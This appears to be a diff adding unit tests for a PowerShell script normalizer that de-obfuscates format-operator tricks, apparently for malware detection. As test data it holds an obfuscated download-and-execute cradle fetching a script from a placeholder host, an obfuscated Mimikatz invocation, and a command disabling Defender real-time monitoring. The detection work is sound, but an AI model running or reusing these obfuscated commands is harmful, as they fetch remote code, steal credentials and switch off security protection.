@@ -167,6 +167,22 @@ class CommandLineNormalizerTest {
     }
 
     @Test
+    void formatOperatorWithLiteralsIsTheStringItMakes() {
+        // Invoke-Obfuscation's reordering of a download cradle
+        String script = ".(\"{1}{0}\" -f 'X','IE') (&(\"{2}{1}{0}\" -f 'ject','-Ob','New') (\"{0}{2}{1}{3}\" -f 'Net','ebCl','.W','ient'))"
+                + ".(\"{1}{2}{0}\"-f 'ng','Dow','nloadStri').Invoke((\"{0}{1}\"-F 'http://x/','a.ps1'))";
+        assertEquals(".(iex) (&(new-object) (net.webclient)).(downloadstring).invoke((http://x/a.ps1))", ScriptBlockNormalizer.normalize(script));
+        // nested: an argument that is itself a format in parentheses
+        assertEquals("invoke-mimikatz", ScriptBlockNormalizer.normalize("(\"{0}{1}\" -f (\"{1}{0}\" -f 'oke-','Inv'),'Mimikatz')").replace("(", "").replace(")", ""));
+        // in a command line
+        assertEquals("powershell -command &(set-mppreference) -disablerealtimemonitoring 1",
+                n("powershell -c \"&('{0}{1}' -f 'Set-Mp','Preference') -DisableRealtimeMonitoring 1\""));
+        // other formats stay as written
+        assertEquals("{0:n2} -f 3.14159", ScriptBlockNormalizer.normalize("'{0:N2}' -f 3.14159"));
+        assertEquals("{3}{0} -f a,b", ScriptBlockNormalizer.normalize("'{3}{0}' -f 'a','b'"));
+    }
+
+    @Test
     void hostileInputIsBoundedAndLinear() {
         assertNull(n(null));
         assertEquals("", n(""));
@@ -177,6 +193,8 @@ class CommandLineNormalizerTest {
         assertTrue(n(percents).length() <= CommandLineNormalizer.MAX_INPUT);
         String sets = "set a=" + "x".repeat(4_000) + "&&" + "%a%".repeat(10_000) + "%a:".repeat(5_000);
         assertTrue(n(sets).length() <= 2 * CommandLineNormalizer.MAX_INPUT);
+        String formats = ("'" + "{0}".repeat(250) + "' -f '" + "y".repeat(1_000) + "';").repeat(60);
+        assertTrue(ScriptBlockNormalizer.normalize(formats).length() <= 8 * ScriptBlockNormalizer.MAX_INPUT);
         String spaces = "powershell " + "-e ".repeat(15_000);
         assertTrue(n(spaces).startsWith("powershell -encodedcommand"));
     }
